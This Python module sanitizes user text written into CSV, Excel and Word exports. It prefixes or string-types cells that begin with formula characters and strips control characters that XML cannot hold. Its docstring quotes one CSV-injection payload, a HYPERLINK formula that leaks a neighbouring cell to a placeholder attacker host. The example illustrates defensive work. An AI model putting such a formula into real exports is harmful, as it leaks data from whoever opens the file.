"""User text on its way into a file the platform writes: CSV and Excel cells, Word paragraphs.

Two rules, each written once here and used by every export and document writer:

* **Formula injection** (OWASP, "CSV Injection"): a cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab
  or a carriage return is read as a formula by Excel, WPS and LibreOffice; a complaint's description such as
  ``=HYPERLINK("http://evil.example/?d="&A2,"x")`` would become a live link leaking the next cell. In CSV such
  a text gets a leading apostrophe (:func:`csv_cell`); in a workbook it is stored as a string, never a formula
  (:func:`append_row`), so the reader sees exactly what was typed. Numbers are left alone.
* **Control characters**: XML 1.0 (the format inside .docx and .xlsx) cannot hold the C0 controls other than
  tab, line feed and carriage return; one ``\\x10`` in a return reason made every yearly report fail. They are
  removed by :func:`clean_text` wherever user text reaches a document.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

#: the first characters that make a spreadsheet read a cell as a formula (OWASP CSV injection)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ufffe\uffff]")


def clean_text(text: str) -> str:
    """*text* without the control characters an XML document cannot hold (tab and line breaks stay)."""
    return _CONTROL.sub("", text)


def csv_cell(value: Any) -> Any:
    """A value as a CSV cell: text cleaned, and prefixed with ``'`` when a spreadsheet would read a formula."""
    if not isinstance(value, str):
        return value
    text = clean_text(value)
    return "'" + text if text.startswith(FORMULA_START) else text


def csv_row(values: Iterable[Any]) -> list[Any]:
    """:func:`csv_cell` of each value."""
    return [csv_cell(v) for v in values]


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """Append *values* to an openpyxl *sheet* as data: text cleaned and always a string, never a formula."""
    row = [clean_text(v) if isinstance(v, str) else v for v in values]
    sheet.append(row)
    for cell, value in zip(sheet[sheet.max_row], row):
        if isinstance(value, str) and value.startswith("="):
            cell.data_type = "s"
